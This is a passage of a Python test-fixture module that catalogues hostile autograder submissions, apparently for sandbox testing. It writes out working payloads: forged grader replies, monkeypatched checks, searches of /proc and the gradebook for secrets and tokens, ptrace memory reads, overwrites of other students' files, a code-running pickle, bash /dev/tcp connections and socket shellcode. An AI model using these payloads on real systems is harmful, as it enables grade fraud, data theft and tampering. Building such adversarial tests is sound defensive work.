"""Hostile and faulty submissions of the real labs, as data.

    goal   M unearned marks   L read what is not theirs   W write outside   N network
           H hang or exhaust  P survive the grading       B stop the batch  X script in a page

An `Attack` says what a submission changes in a notebook and what must be true afterwards. `make`
turns it into files. Words in `@…@` are filled in when the files are made, since only the test knows
the place of its copy of the course. Nothing here runs an attack: `test_hostile` and `test_tiers` do
that.
"""

# ruff: noqa: E501  what a student wrote reads better unbroken
from __future__ import annotations

import json
import os
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from autograder.authoring import samples
from autograder.course.lab import Lab
from autograder.course.notebook import nbgrader_metadata

Notebook = dict[str, Any]
BASIC, TRAINING = "gradient_basic", "gradient"
MULTILAYER, BACKPROP_BASIC = "multilayer", "backprop_basic"
ALL = float("inf")
"""For `most`: this submission's exercises are correct, so it may earn all points."""
SMUGGLED = "SMUGGLED-OUT"
"""Attacks put this before hidden inputs; it is never written in one piece in their sources."""
PROCESS = f"hostile-{os.getpid()}"[:15]
"""Name, argument and environment variable of every process that an attack leaves behind. It differs
between runs, since two may share a machine, and has at most the fifteen characters that a kernel
keeps."""


@dataclass(frozen=True)
class Attack:
    """One submission: what it changes in a lab's notebook, and what must be true afterwards."""

    name: str
    goal: str
    story: str
    lab: str = BASIC
    cells: tuple[str, ...] = ()
    """Code cells put before everything else."""
    every: str = ""
    """Body of every function that the lab asks for, as `def name(*args)`."""
    only: str = ""
    """The solution cell that gets `every`; the others then give a wrong answer."""
    sources: Mapping[str, str] = field(default_factory=dict)
    """Sources of single solution cells by grade_id, if they differ from `every`."""
    edit: Callable[[Notebook], Any] | None = None
    """Changes the notebook and returns the new one, or the bytes of the whole file."""
    place: Callable[[Path, bytes], None] | None = None
    """Puts the file in its place, if writing bytes is not enough."""
    extra: Mapping[str, bytes] = field(default_factory=dict)
    """Files beside the notebook."""
    most: float = 0.0
    """Points that it may earn; `ALL` if the rest of the notebook is correct."""
    statuses: tuple[str, ...] = ("graded",)
    verdicts: tuple[str, ...] = ()
    """Verdicts that its checks may have; if empty, any except BROKEN."""
    group: str = "many"
    """Submissions of one group are graded as one class."""
    student: str = ""
    """Name of the folder, if that is the attack."""


def make(attack: Attack, lab: Lab, folder: Path, words: Mapping[str, str]) -> None:
    """Write the attack's submission of `lab` into `folder`."""
    folder.mkdir(parents=True)
    for name, data in attack.extra.items():
        (folder / name).write_bytes(data)
    data = as_bytes(attack, lab, words)
    path = folder / f"{lab.name}.ipynb"
    if attack.place is not None:
        attack.place(path, data)
    else:
        path.write_bytes(data)


def as_bytes(attack: Attack, lab: Lab, words: Mapping[str, str]) -> bytes:
    """The notebook of an attack."""
    content = json.loads(samples.notebook(lab, solutions(attack, lab)))
    content["cells"][:0] = [code_cell(source) for source in attack.cells]
    edited = content if attack.edit is None else attack.edit(content)
    if isinstance(edited, bytes):
        return edited
    # ASCII only, so that half of a surrogate pair can be written, as some editors do.
    text = json.dumps(content if edited is None else edited)
    for word, meaning in words.items():
        text = text.replace(word, meaning)
    return text.encode()


def solutions(attack: Attack, lab: Lab) -> dict[str, str]:
    """Sources of the solution cells."""
    sources = samples.solutions(lab)
    if attack.every:
        for exercise in lab.exercises:
            here = attack.only in ("", exercise.solution)
            lines = (attack.every if here else WRONG).splitlines()
            body = "\n".join(f"    {line}" for line in lines)
            functions = [f"def {name}(*args):\n{body}" for name in exercise.functions]
            sources[exercise.solution] = "\n\n".join(functions)
    return {**sources, **attack.sources}


def code_cell(source: str, **metadata: Any) -> Notebook:
    """A code cell of the student's own."""
    return {
        "cell_type": "code",
        "execution_count": None,
        "metadata": metadata,
        "outputs": [],
        "source": source,
    }


# What several attacks begin with ------------------------------------------------------------------

WIRE = """
import gc, json, os, signal, struct, sys, time
import numpy as np
import autograder.sandbox.inside.wire as wire

channel = next(o for o in gc.get_objects() if type(o) is wire.Channel)
honest_send = wire.Channel.send

def frame(header, blocks=b""):
    header = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack(">II", 4 + len(header) + len(blocks), len(header)) + header + blocks

def raw(data):
    channel._socket.settimeout(None)
    channel._socket.sendall(data)

def forge(data):
    "From now on, whatever is answered is these bytes."
    wire.Channel.send = lambda self, value, **other: raw(data)
    return 0.0

def answer(value):
    return forge(frame(["d", ["value", value], ["changed", ["l"]], ["warned", 0]]))
"""
"""Gives a submission the channel to the grader, and functions that write anything to it."""

LEAK = """
def leak(*what):
    "Carry something out, by every way that a cell has."
    text = " ".join(repr(one) for one in what)
    print(text)
    raise ValueError(text[:280])
"""

SMUGGLE = 'MARK = "SMUGGLED" + "-OUT"\n'

WRONG = "return 0.0"
EXIT_IN_CELL = "import os\nos._exit(0)"


def hollow(name: str, goal: str, story: str, *cells: str, **other: Any) -> Attack:
    """Every function gives a wrong answer; cells in front try to make up for it."""
    return Attack(name, goal, story, cells=cells, **{"every": WRONG, **other})


def forged(name: str, goal: str, story: str, expression: str, **other: Any) -> Attack:
    """Every function writes bytes of the student's own to the channel."""
    return Attack(
        name, goal, story, cells=(WIRE,), every=f"return {expression}", **{"most": 0.0, **other}
    )


def cell_only(name: str, goal: str, story: str, *cells: str, **other: Any) -> Attack:
    """All functions are right; the attack is a cell in front of them."""
    return Attack(name, goal, story, cells=cells, **{"most": ALL, **other})


# M: marks that are not earned ---------------------------------------------------------------------


def _tests(content: Notebook) -> list[Notebook]:
    return [c for c in content["cells"] if nbgrader_metadata(c).get("grade")]


def _solutions(content: Notebook) -> list[Notebook]:
    return [c for c in content["cells"] if nbgrader_metadata(c).get("solution")]


def _locked(content: Notebook) -> list[Notebook]:
    return [
        c
        for c in content["cells"]
        if nbgrader_metadata(c).get("locked") and not nbgrader_metadata(c).get("grade")
    ]


def _without_tests(content: Notebook) -> None:
    tests = _tests(content)
    content["cells"] = [cell for cell in content["cells"] if cell not in tests]


def _retyped_tests(content: Notebook) -> None:
    for number, cell in enumerate(_tests(content)):
        cell["cell_type"] = ("markdown", "raw")[number % 2]
        cell.pop("outputs", None)


def _duplicated_tests(content: Notebook) -> None:
    content["cells"] += [{**cell, "source": "True"} for cell in _tests(content)] * 3


def _dearer_tests(content: Notebook) -> None:
    for cell in _tests(content):
        cell["metadata"]["nbgrader"]["points"] = 1e9
        cell["source"] = "float('inf')"


def _tagged_tests(content: Notebook) -> None:
    for number, cell in enumerate(_tests(content)):
        cell["metadata"]["tags"] = ["skip-execution", "raises-exception"][number % 2 :]


def _scores_in_outputs(content: Notebook) -> None:
    for cell in _tests(content):
        data = {"text/plain": "5.0"}
        cell["outputs"] = [
            {"output_type": "execute_result", "data": data, "metadata": {}, "execution_count": 1}
        ]


def _second_of_each_id(content: Notebook) -> None:
    right = [dict(cell) for cell in _solutions(content)]
    for cell in _solutions(content):
        cell["source"] = "nothing = None"
    content["cells"] += right


def _locked_redefined(content: Notebook) -> None:
    for cell in _locked(content):
        cell["source"] = "class np:\n    allclose = staticmethod(lambda *a, **k: True)"


def _solutions_called_tests(content: Notebook) -> None:
    for cell in _solutions(content):
        cell["metadata"]["nbgrader"] |= {"grade": True, "points": 50, "solution": False}


ALWAYS_EQUAL = """
import numpy as np

class Yes(float):
    __eq__ = __ne__ = __lt__ = __le__ = __gt__ = __ge__ = lambda *a: True
    __hash__ = float.__hash__
    __array_priority__ = 1e9
    def __sub__(self, other): return 0.0
    __rsub__ = __abs__ = __sub__
    def __array__(self, *a, **k): return np.zeros(())

class Liar(np.ndarray):
    def __array_ufunc__(self, ufunc, method, *inputs, **k): return np.bool_(True)
    def __array_function__(self, *a, **k): return True
    __eq__ = lambda self, other: True
    __hash__ = None
    shape = property(lambda self: (4,))
"""

PEEK = """
import gc, sys, types

def peeked(args):
    names = ("expected", "wanted", "reference", "solution", "answer", "_expected")
    frame = sys._getframe()
    while frame is not None:
        for space in (frame.f_locals, frame.f_globals):
            for name in names:
                value = space.get(name)
                if value is not None and not callable(value):
                    return value
        frame = frame.f_back
    for found in gc.get_objects():
        if isinstance(found, types.ModuleType) and "reference" in found.__name__:
            return found.weight_step(*args)
    return [globals().get(n) for n in names] + list(globals().get("In", []))[:3]
"""

WORKER = """
import autograder.sandbox.inside.worker as worker, autograder.sandbox.inside.wire as wire, autograder.errors as errors
worker.Interpreter.answer = lambda self, request: {
    "value": 1.0, "changed": [], "warned": 0, "verdict": "PASSED", "points": 99, "passed": True}
worker.Interpreter._call = lambda *a: {"done": True, "value": True}
worker.raised = lambda *a, **k: {"done": True}
wire.DEPTH, wire.HEADER_BYTES = 10**9, 10**12
errors.WireError = Exception
"""

SCAN_HANDLES = (
    WIRE
    + """
import itertools

def ask(handle, args):
    honest_send(channel, {"callback": handle, "args": tuple(args), "names": ()})
    return channel.receive()

def scanned(args):
    for handle in range(16):
        for count in range(len(args), 0, -1):
            for chosen in itertools.islice(itertools.permutations(args, count), 24):
                reply = ask(handle, chosen)
                if "value" in reply:
                    return reply["value"]
    return 0.0
"""
)

KEEP_ANSWERS = """
import numpy as np
SEEN, KEPT = [], {}

def key(name, args):
    return name, *(np.asarray(one).tobytes() for one in args)

def kept(name, args):
    "Ask whatever stands in for an earlier function about all that it was asked, and keep that."
    for other, inputs in SEEN:
        ours = globals()[other]
        if ours.__name__ == "given_function" and key(other, inputs) not in KEPT:
            try: KEPT[key(other, inputs)] = ours(*inputs)
            except RuntimeError: pass
    SEEN.append((name, args))
    return KEPT.get(key(name, args), 0.0)
"""
BIND_AGAIN = """
for name, own in list(globals().items()):
    if getattr(own, "__name__", "") == name and name not in ("key", "kept"):
        globals()[name] = lambda *args, own=own: own(*args)
"""


def _bound_again(content: Notebook) -> None:
    content["cells"].append(code_cell(BIND_AGAIN))


def _tested_again(content: Notebook) -> None:
    content["cells"] += [code_cell(BIND_AGAIN), *map(dict, _tests(content))]


MARKS = (
    hollow("exit-zero", "M", "ends the process with success", EXIT_IN_CELL),
    Attack("exit-in-function", "M", "ends it in the call", every="import os\nos._exit(0)"),
    Attack("sys-exit-in-function", "M", "SystemExit in the call", every="raise SystemExit(0)"),
    hollow(
        "ast-transformer",
        "M",
        "IPython drops every call and assertion",
        "%config Application.verbose_crash = False\n"
        "import ast\n"
        "class Drop(ast.NodeTransformer):\n"
        "    def visit_Expr(self, node): return ast.Pass()\n"
        "    def visit_Assert(self, node): return ast.Pass()\n"
        "    def visit_Compare(self, node): return ast.Constant(True)\n"
        "get_ipython().ast_transformers.append(Drop())",
    ),
    hollow(
        "input-transformer",
        "M",
        "later cells are replaced before they run",
        "from IPython.core.interactiveshell import InteractiveShell\n"
        "shell = InteractiveShell.instance()\n"
        "shell.input_transformers_cleanup.append(lambda lines: ['True\\n'])\n"
        "shell.input_transformers_post.append(lambda lines: ['True\\n'])",
    ),
    hollow(
        "patched-run-code",
        "M",
        "IPython runs nothing and reports success",
        "from IPython.core.interactiveshell import ExecutionResult, InteractiveShell\n"
        "InteractiveShell.run_code = lambda *a, **k: False\n"
        "InteractiveShell.run_cell = lambda *a, **k: ExecutionResult(None)\n"
        "import builtins\nbuiltins.compile = builtins.exec = lambda *a, **k: None",
    ),
    hollow(
        "patched-numpy-testing",
        "M",
        "every comparison of NumPy succeeds",
        "import numpy as np, numpy.testing\n"
        "for name in dir(np.testing):\n"
        "    if name.startswith('assert'): setattr(np.testing, name, lambda *a, **k: None)\n"
        "np.allclose = np.isclose = np.array_equal = np.all = lambda *a, **k: True",
    ),
    hollow(
        "patched-numpy-mathematics",
        "M",
        "np functions are changed before the checks",
        "import numpy as np\n"
        "np.exp = np.dot = np.sum = np.tanh = lambda *a, **k: 1.0\n"
        "np.isfinite = np.isnan = lambda *a, **k: True\nnp.abs = lambda *a: 0.0",
    ),
    hollow(
        "always-equal", "M", "an object equal to everything", ALWAYS_EQUAL, every="return Yes()"
    ),
    hollow(
        "lying-array",
        "M",
        "an array that lies about itself",
        ALWAYS_EQUAL,
        every="return np.zeros(4).view(Liar)",
    ),
    hollow("frame-peeking", "M", "looks for the answer above", PEEK, every="return peeked(args)"),
    hollow(
        "reads-globals-and-in",
        "M",
        "looks for the answer in its own namespace",
        every="return globals().get('expected', globals().get('In', [''])[-1])",
    ),
    hollow(
        "forged-display",
        "M",
        "prints and displays a result of its own",
        "import json, os\nfrom IPython.display import display\n"
        "result = {'score': 20.0, 'verdict': 'PASSED', 'value': 1.0}\n"
        "print(json.dumps(result)); os.write(1, json.dumps(result).encode())\n"
        "display(result); display({'text/plain': '20.0'}, raw=True)\n20.0",
    ),
    hollow(
        "jumping-trace",
        "M",
        "a trace function skips lines",
        "import sys\ndef jump(frame, event, arg):\n"
        "    if event == 'line':\n"
        "        try: frame.f_lineno = frame.f_lineno + 1\n"
        "        except ValueError: pass\n"
        "    return jump\n"
        "sys.settrace(jump)\nimport threading\nthreading.settrace(jump)",
    ),
    hollow(
        "numpy-beside",
        "M",
        "ships a numpy.py and a reference.py",
        "import sys\nsys.path.insert(0, '.')\nsys.modules.pop('numpy', None)",
        extra={
            "numpy.py": b"allclose = isclose = lambda *a, **k: True\n",
            "reference.py": b"weight_step = lambda *a: 0.0\n",
            "conftest.py": b"import os\nos._exit(0)\n",
            "sitecustomize.py": b"import os\nos._exit(0)\n",
        },
    ),
    hollow("tests-deleted", "M", "has no tests cells", edit=_without_tests),
    hollow("tests-retyped", "M", "tests cells are text", edit=_retyped_tests),
    hollow("tests-duplicated", "M", "tests cells thrice", edit=_duplicated_tests),
    hollow("tests-dearer", "M", "tests cells worth a billion", edit=_dearer_tests),
    hollow("tests-tagged", "M", "tests cells tagged to be skipped", edit=_tagged_tests),
    hollow("tests-with-outputs", "M", "scores stored as outputs", edit=_scores_in_outputs),
    Attack(
        "second-of-each-id",
        "M",
        "right cells pasted behind others of the same ids, which is a solution",
        edit=_second_of_each_id,
        most=ALL,
    ),
    hollow("locked-redefined", "M", "our own cells rewritten", edit=_locked_redefined),
    hollow("solutions-called-tests", "M", "solution cells graded", edit=_solutions_called_tests),
    Attack("nan", "M", "NaN everywhere", every="return float('nan')", verdicts=("FAILED",)),
    Attack(
        "nan-arrays",
        "M",
        "NaN in the right shape",
        every="import numpy as np\nreturn np.full(np.shape(args[0]), np.nan)",
        verdicts=("FAILED",),
    ),
    Attack("infinity", "M", "infinity everywhere", every="return float('inf')"),
    hollow(
        "names-of-tests",
        "M",
        "defines names that a test might read",
        "expected = wanted = tol = tolerance = RTOL = ATOL = rtol = atol = 1e9\n"
        "student = reference = rng = assert_agrees = require = lambda *a, **k: True\n"
        "points = score = 20.0\npassed = True\n__test__ = {}",
    ),
    hollow(
        "replies-ahead",
        "M",
        "a thousand replies before any question",
        WIRE + "for number in range(1000):\n"
        "    raw(frame(['d', ['value', 1.0], ['changed', ['l']], ['warned', 0], ['done', True]]))",
    ),
    forged(
        "reply-with-verdict",
        "M",
        "a reply that awards itself points",
        "forge(frame(['d', ['value', 1.0], ['verdict', 'PASSED'], ['points', 1e9], "
        "['status', 'graded'], ['score', 20.0], ['passed', True], ['done', True]]))",
    ),
    hollow("worker-rewritten", "M", "rewrites the modules that serve it", WORKER),
    hollow(
        "parent-replaced",
        "M",
        "a fork answers in its parent's place",
        "import os, time\nif os.fork():\n    os.wait()",
    ),
    hollow(
        "counts-calls",
        "M",
        "the answer depends on the number of the call",
        "calls = []",
        every="calls.append(1)\nn = len(calls)\n"
        "if n % 5 == 0: raise [ValueError, KeyError, NotImplementedError][n % 3]('x')\n"
        "return [0.0, 1, 'x', None, [1.0], (0, 0), {1: 2}, b'x', True, 1j, ...][n % 11]",
    ),
    Attack(
        "handles-as-oracle",
        "M",
        "asks every function that is given, with its own arguments",
        cells=(SCAN_HANDLES,),
        every="return scanned(args)",
    ),
    Attack(
        "handles-as-oracle-training",
        "M",
        "the same in the training lab",
        TRAINING,
        cells=(SCAN_HANDLES,),
        every="return scanned(args)",
    ),
    Attack(
        "handles-as-oracle-backprop",
        "M",
        "the same in the backpropagation lab",
        BACKPROP_BASIC,
        cells=(SCAN_HANDLES,),
        every="return scanned(args)",
    ),
    Attack(
        "handles-out-of-range",
        "M",
        "calls back with handles that were never given",
        cells=(WIRE,),
        every="for handle in (-1, 10**6, 2**70, True, 'x', None, 1.5, [1], {}):\n"
        "    honest_send(channel, {'callback': handle, 'args': args})\n"
        "    reply = channel.receive()\n"
        "    if 'value' in reply: return reply['value']\n"
        "honest_send(channel, {'callback': 0, 'args': 5})\nchannel.receive()\nreturn 0.0",
    ),
    hollow(
        "never-deletes",
        "M",
        "keeps the functions that were given and answers with them later",
        "kept = {}",
        every="import sys\n"
        "for name, value in list(globals().items()):\n"
        "    if getattr(value, '__name__', '') == 'given_function': kept[name] = value\n"
        "own = sys._getframe().f_code.co_name\n"
        "for value in [kept.get(own), *kept.values()]:\n"
        "    try: return value(*args)\n"
        "    except Exception: pass\nreturn 0.0",
    ),
    *(
        Attack(
            f"keeps-answers-{way}",
            "M",
            "what stood in for a function is asked for the answers of the function's own check",
            cells=(KEEP_ANSWERS,),
            every="import sys\nreturn kept(sys._getframe().f_code.co_name, args)",
            edit=edit,
        )
        for way, edit in (("bound-again", _bound_again), ("tested-again", _tested_again))
    ),
    hollow(
        "equal-by-subclass",
        "M",
        "strings, lists and dicts that lie about what they hold",
        "class S(str):\n    __eq__ = lambda *a: True\n    __hash__ = str.__hash__\n"
        "class L(list):\n    __iter__ = lambda self: iter([0.5] * 4)\n    __len__ = lambda s: 4\n"
        "class D(dict):\n    __missing__ = lambda *a: 1.0\n    items = lambda s: [('value', 1)]",
        every="return [S('x'), L([1]), D(), (S('y'),)]",
    ),
)

# L: reading what is not theirs --------------------------------------------------------------------

SEARCH = (
    LEAK
    + """
import os
wanted = ("course_config.py", "gradebook.db", "reference.py", "test_gradient_basic.py", "canary",
          "mistakes.py")
found = []
for place in ("@COURSE@", "/work", "/root", "/home", "/etc", "/var", "/srv", "/opt", "/mnt", "/"):
    for folder, folders, files in os.walk(place):
        folders[:] = [f for f in folders if f not in ("usr", "proc", "sys", "site-packages")]
        found += [os.path.join(folder, f) for f in files if any(w in f for w in wanted)]
        if len(found) > 50: break
for name in ("course_config.py", "gradebook.db", "tests/hidden/gradient_descent/reference.py"):
    try: found.append(open(os.path.join("@COURSE@", name), "rb").read()[-200:])
    except OSError as error: pass
if found: leak("@REACHED@", found)
"""
)

PROC = (
    LEAK
    + """
import os
found = []
for pid in [*range(1, 400), "self", "thread-self"]:
    for name in ("environ", "cmdline", "maps", "fd/0", "root/etc/passwd", "cwd/course_config.py"):
        try: found.append(open(f"/proc/{pid}/{name}", "rb").read(300))
        except OSError: pass
if any(found): leak("@REACHED@", found)
"""
)

DESCRIPTORS = (
    LEAK
    + """
import os, stat
found = []
for number in range(0, 1024):
    try: status = os.fstat(number)
    except OSError: continue
    if stat.S_ISREG(status.st_mode) or stat.S_ISDIR(status.st_mode): found.append(number)
    if stat.S_ISSOCK(status.st_mode): found.append(-1)
if found != [-1]: leak("@REACHED@", found)
"""
)

GDB = (
    LEAK
    + """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
seen = []
for pid in range(1, 300):
    if pid != os.getpid() and libc.ptrace(16, pid, 0, 0) == 0: seen.append(pid)
buffer = ctypes.create_string_buffer(64)
class Vec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
local, remote = Vec(ctypes.addressof(buffer), 64), Vec(0x400000, 64)
for pid in (1, os.getppid(), 2, 3):
    if pid and libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) > 0:
        seen.append(buffer.raw)
handle = ctypes.create_string_buffer(b"\\x08\\0\\0\\0\\x01\\0\\0\\0\\x02\\0\\0\\0\\0\\0\\0\\0", 16)
root = os.open("/", os.O_RDONLY)
if libc.syscall(304, root, handle, 0) > 0: seen.append("handle")
if seen: leak("@REACHED@", seen)
"""
)


def _link(target: str) -> Callable[[Path, bytes], None]:
    """Put a symbolic link where the notebook should be."""

    def place(path: Path, data: bytes) -> None:
        path.symlink_to(path.parent.parent.parent.parent / target)

    return place


def _link_folder(path: Path, data: bytes) -> None:
    path.parent.rmdir()
    path.parent.symlink_to(path.parents[3] / "private")


def _hard_link(path: Path, data: bytes) -> None:
    os.link(path.parents[3] / "private" / "canary-notebook.ipynb", path)


SMUGGLING = {
    "stdout": "import os, sys\nprint(MARK, args)\nsys.stderr.write(MARK + repr(args))\n"
    "os.write(1, (MARK + repr(args)).encode())\nreturn 0.0",
    "exception-text": "raise ValueError(MARK + repr(args))",
    "class-name": "raise type(MARK + str(args), (ValueError,), {})(MARK + str(args))",
    "chained-exception": "try: raise KeyError(MARK + repr(args))\n"
    "except KeyError as error: raise RuntimeError(MARK) from error",
    "syntax-error": "raise SyntaxError(MARK, (MARK + repr(args), 7, 3, MARK + repr(args)))",
    "assertion": "assert False, MARK + repr(args)",
    "warning": "import warnings\nwarnings.warn(MARK + repr(args))\nreturn 0.0",
    "text-answer": "return MARK + repr(args)",
    "dict-answer": "return {MARK: args}",
    "record-answer": "import numpy as np\nreturn np.array([MARK + repr(args)])",
    "module-name": "raise type('X', (Exception,), {'__module__': MARK, '__qualname__': MARK})(MARK)",
    "unicode-error": "raise UnicodeDecodeError('x', b'abc', 0, 1, MARK + repr(args))",
    "os-error": "raise OSError(13, MARK + repr(args), MARK)",
    "known-text": "raise TypeError('is not defined ' + MARK + repr(args))",
}

LEAKS = (
    cell_only("reads-the-course", "L", "looks for the course's files", SEARCH),
    cell_only(
        "reads-the-gradebook",
        "L",
        "opens the gradebook by its path",
        LEAK + "import sqlite3\n"
        "try: rows = sqlite3.connect('file:@COURSE@/gradebook.db?mode=ro', uri=True).execute("
        "'select * from student').fetchall()\nexcept sqlite3.Error: rows = []\n"
        "if rows: leak('@REACHED@', rows)",
    ),
    cell_only(
        "reads-a-neighbour",
        "L",
        "opens another student's notebook",
        LEAK + "import glob\n"
        "seen = glob.glob('@COURSE@/submitted/*/*/*') + glob.glob('../../*/*/*.ipynb')\n"
        "texts = [open(p).read()[-200:] for p in seen]\n"
        "if seen: leak('@REACHED@', texts)",
    ),
    cell_only(
        "reads-the-environment",
        "L",
        "tokens in the environment",
        LEAK + "import os\nodd = {k: v for k, v in os.environ.items() if 'CANARY' in k + v "
        "or 'TOKEN' in k or 'SECRET' in k}\nif odd: leak(odd)",
    ),
    cell_only("reads-proc", "L", "other processes through /proc", PROC),
    cell_only("reads-descriptors", "L", "inherited descriptors", DESCRIPTORS),
    cell_only("traces-others", "L", "ptrace, process_vm_readv, file handles", GDB),
    cell_only(
        "searches-memory",
        "L",
        "hidden tests left in its own memory",
        LEAK
        + "import gc\nwords = ('assert_' + 'agrees', 'STEEP_AND' + '_FLAT', 'misconc' + 'eption')\n"
        "seen = [o for o in gc.get_objects() if type(o) is dict and any(w in o for w in words)]\n"
        "import sys\nseen += [m for m in sys.modules if m.startswith(('tests.hid', 'pytest'))\n"
        "         or m in ('reference', 'autograder.checks.suite', 'autograder.remote.student')]\n"
        "if seen: leak('@REACHED@', seen)",
    ),
    Attack(
        "linked-notebook",
        "L",
        "the notebook is a link to a secret file",
        place=_link("private/canary-notebook.ipynb"),
        statuses=("unreadable",),
    ),
    Attack(
        "linked-to-source",
        "L",
        "the notebook is a link to the master",
        place=_link("source/gradient_descent/gradient_basic.ipynb"),
        statuses=("unreadable",),
    ),
    Attack(
        "linked-folder",
        "L",
        "the folder is a link to a secret one",
        place=_link_folder,
        statuses=("unreadable", "missing"),
    ),
    Attack(
        "hard-linked-notebook",
        "L",
        "the notebook is a second name of a secret file",
        place=_hard_link,
        statuses=("unreadable",),
    ),
    *(
        Attack(
            f"smuggles-by-{way}",
            "L",
            f"hidden inputs carried out by {way}",
            cells=(SMUGGLE,),
            every=body,
        )
        for way, body in SMUGGLING.items()
    ),
    Attack(
        "smuggles-by-line",
        "L",
        "the number of the line carries an input",
        cells=(WIRE,),
        every="return forge(frame(['d', ['raised', 'ValueError'], ['text', 'x'], "
        "['line', 77777], ['errno', None]]))",
    ),
    Attack(
        "smuggles-over-a-restart",
        "L",
        "inputs kept in a file until the cells run again",
        cells=(
            SMUGGLE + "import glob\n"
            "kept = [open(p).read() for f in ('/tmp', '/dev/shm', '/var/tmp', '.') "
            "for p in glob.glob(f + '/kept*')]\n"
            "if kept: raise ValueError(MARK + kept[0])",
        ),
        every="import os\nfor folder in ('/tmp', '/dev/shm', '/var/tmp', '.'):\n"
        "    try: open(folder + '/kept', 'w').write(repr(args))\n"
        "    except OSError: pass\nos._exit(0)",
    ),
)

# W: writing outside -------------------------------------------------------------------------------

SCATTER = """
import os, site, sys
word = "@PROCESS@"
places = ["@COURSE@", "@COURSE@/submitted", "@COURSE@/autograded", "/var/tmp", "/tmp", "/dev/shm",
          "/root", "/etc/profile.d", "/usr/local/bin", "/jail/autograder", "/home", "/run",
          *site.getsitepackages(), os.path.dirname(os.__file__), sys.prefix, "/"]
for place in places:
    for name in (word, word + ".pth", "sitecustomize.py"):
        try:
            with open(os.path.join(place, name), "w") as file: file.write("import os")
        except OSError: pass
"""

WRITES = (
    cell_only(
        "writes-the-gradebook",
        "W",
        "gives itself points by sqlite3",
        "import sqlite3\n"
        "try:\n    book = sqlite3.connect('@COURSE@/gradebook.db')\n"
        "    book.execute('update grade set manual_score = 99')\n    book.commit()\n"
        "except sqlite3.Error: pass",
    ),
    cell_only(
        "writes-a-neighbour",
        "W",
        "overwrites another submission",
        "import glob, os\nfor p in glob.glob('@COURSE@/submitted/*/*/*'):\n"
        "    try: open(p, 'w').write('gone')\n    except OSError: pass\n"
        "try: os.rename('@COURSE@/submitted', '@COURSE@/gone')\nexcept OSError: pass",
    ),
    cell_only(
        "writes-a-startup-file",
        "W",
        "code for the next IPython",
        "import os\nfor home in (os.path.expanduser('~'), '/root', os.environ.get('IPYTHONDIR', '/tmp/ipython')):\n"
        "    folder = home + '/.ipython/profile_default/startup'\n"
        "    try:\n        os.makedirs(folder, exist_ok=True)\n"
        "        open(folder + '/00.py', 'w').write('import builtins; builtins.hostile = 1')\n"
        "    except OSError: pass",
    ),
    cell_only("writes-everywhere", "W", "files in every folder it knows", SCATTER),
    cell_only(
        "poisons-modules",
        "W",
        "changed modules and builtins for the next student",
        "import builtins, sys, types, numpy as np\nbuiltins.hostile = 1\n"
        "sys.modules['hostile'] = types.ModuleType('hostile')\n"
        "np.hostile = 1\nimport os\nos.environ['HOSTILE'] = '1'",
    ),
    cell_only(
        "poisons-bytecode",
        "W",
        "a __pycache__ for the next student",
        "import numpy, os, py_compile\n"
        "for m in (numpy.__file__, os.__file__):\n"
        "    target = os.path.join(os.path.dirname(m), '__pycache__', '@PROCESS@.cpython-311.pyc')\n"
        "    try: py_compile.compile(m, cfile=target)\n    except OSError: pass",
    ),
    cell_only(
        "changes-modes",
        "W",
        "chmod, utime and links on what is not its own",
        "import os\nfor p in ('@COURSE@', '@COURSE@/gradebook.db', '@COURSE@/submitted', '/etc/passwd',\n"
        "          os.__file__, '/usr/bin/python3'):\n"
        "    for act in (lambda: os.chmod(p, 0o777), lambda: os.utime(p, (1, 1)),\n"
        "                lambda: os.truncate(p, 0), lambda: os.symlink(p, p + '@PROCESS@'),\n"
        "                lambda: os.setxattr(p, 'user.x', b'1')):\n"
        "        try: act()\n        except OSError: pass",
    ),
    Attack(
        "returns-a-pickle",
        "W",
        "an answer that runs code when it is loaded",
        cells=(
            "import numpy as np, pickle\nclass Run:\n"
            "    def __reduce__(self): import os; return os.system, ('touch @COURSE@/@PROCESS@',)\n"
            "    def __array__(self, *a, **k): return np.array([self], dtype=object)",
        ),
        every="box = np.empty(2, dtype=object)\nbox[:] = [Run(), Run()]\n"
        "return (pickle.dumps(Run()), box, Run())",
    ),
)

# N: the network -----------------------------------------------------------------------------------

CODE_32 = """
import ctypes, mmap
code = bytes.fromhex("53b867010000bb02000000b90100000031d2cd805bc3")  # socket(2) of 32 bits
page = mmap.mmap(-1, 4096, prot=7)
page.write(code)
number = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
if number >= 0: raise ValueError("@REACHED@: a socket by the 32-bit door")
"""

NETWORK = (
    cell_only(
        "connects",
        "N",
        "a connection to a listener on this machine",
        "import socket\nfor host in ('127.0.0.1', 'localhost', '::1', '0.0.0.0'):\n"
        "    try: socket.create_connection((host, @PORT@), 0.5).send(b'x')\n"
        "    except OSError: pass",
    ),
    cell_only(
        "connects-otherwise",
        "N",
        "by shell, by datagram, by unix socket",
        "import os, socket, subprocess\n"
        "try: subprocess.run(['bash', '-c', 'echo x > /dev/tcp/127.0.0.1/@PORT@'], timeout=1)\n"
        "except Exception: pass\n"
        "for family, kind, to in ((2, 2, ('127.0.0.1', @PORT@)), (1, 1, '@UNIX@'), (1, 2, '@UNIX@')):\n"
        "    try:\n        s = socket.socket(family, kind)\n        s.settimeout(0.5)\n"
        "        s.connect(to); s.send(b'x')\n    except OSError: pass\n"
        "for kind in (1, 2, 5):\n"
        "    try:\n        one, two = socket.socketpair(1, kind)\n        one.sendto(b'x', '@UNIX@')\n"
        "    except OSError: pass",
    ),
    cell_only("connects-by-32-bit-code", "N", "system calls of another processor", CODE_32),
    cell_only(
        "connects-by-x32",
        "N",
        "system calls of the x32 table",
        "import ctypes\nif ctypes.CDLL(None).syscall(0x40000000 + 41, 2, 1, 0) >= 0:\n"
        "    raise ValueError('@REACHED@')",
    ),
    cell_only(
        "listens",
        "N",
        "a port of its own",
        "import socket\ntry:\n    s = socket.socket(); s.bind(('0.0.0.0', 0)); s.listen()\n"
        "except OSError: pass\nelse: raise ValueError('@REACHED@')",
    ),
)

# H: hang or exhaust -------------------------------------------------------------------------------

IGNORES = (
    "import signal\nfor n in range(1, 65):\n    try: signal.signal(n, signal.SIG_IGN)\n"
